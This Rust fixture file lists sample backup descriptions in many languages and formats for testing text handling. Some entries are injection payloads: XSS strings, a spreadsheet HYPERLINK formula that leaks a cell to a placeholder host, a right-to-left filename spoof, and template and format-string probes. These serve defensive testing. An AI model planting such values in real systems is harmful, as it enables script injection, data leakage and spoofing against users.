//! What people write in descriptions: several scripts, emoji, markup, spreadsheet formulas, and text that misbehaves.

pub const LONG_NAME: &str = "analytics-warehouse-production-eu-central-replicated-node-with-a-name-that-nobody-ever-\
                             shortened-because-it-was-generated-by-a-script-in-2019-0001";

pub const DESCRIPTIONS: [&str; 26] = [
    "Before upgrade to PostgreSQL 17",
    "Pre-deployment backup",
    "Before schema migration 0042",
    "Թարմացումից առաջ",
    "قبل ترقية قاعدة البيانات",
    "Yükseltmeden önce: ışık sunucusu, İSTANBUL",
    "Voor de grote verhuizing",
    "A'o le'i faia le fa'afouga",
    "🚀 release 2.4.0 👩‍💻",
    "<script>alert('backup')</script>",
    "=HYPERLINK(\"https://example.invalid/?leak=\"&A1,\"Click\")",
    "+1+1",
    "-2+3 cells",
    "@SUM(A1:A9)",
    "",
    "Monthly archive; keep until audit, \"final\" copy",
    "Line one\nline two\tand a tab",
    "right-to-left mark \u{202E}gnp.exe",
    "移行前のバックアップ",
    "Перед обновлением ядра",
    "<img src=x onerror=alert(1)>",
    "&lt;already escaped&gt; &amp; done",
    "Before moving /var/lib/mysql to the new volume",
    "Golden image",
    "This description goes on and on: it names the ticket, the person on call, the reason for the reason, the fallback \
     plan, the plan for when the fallback plan fails, the phone number of nobody in particular, and ends without a point",
    "Rollback point {{7*7}} ${7*7} %s %n",
];
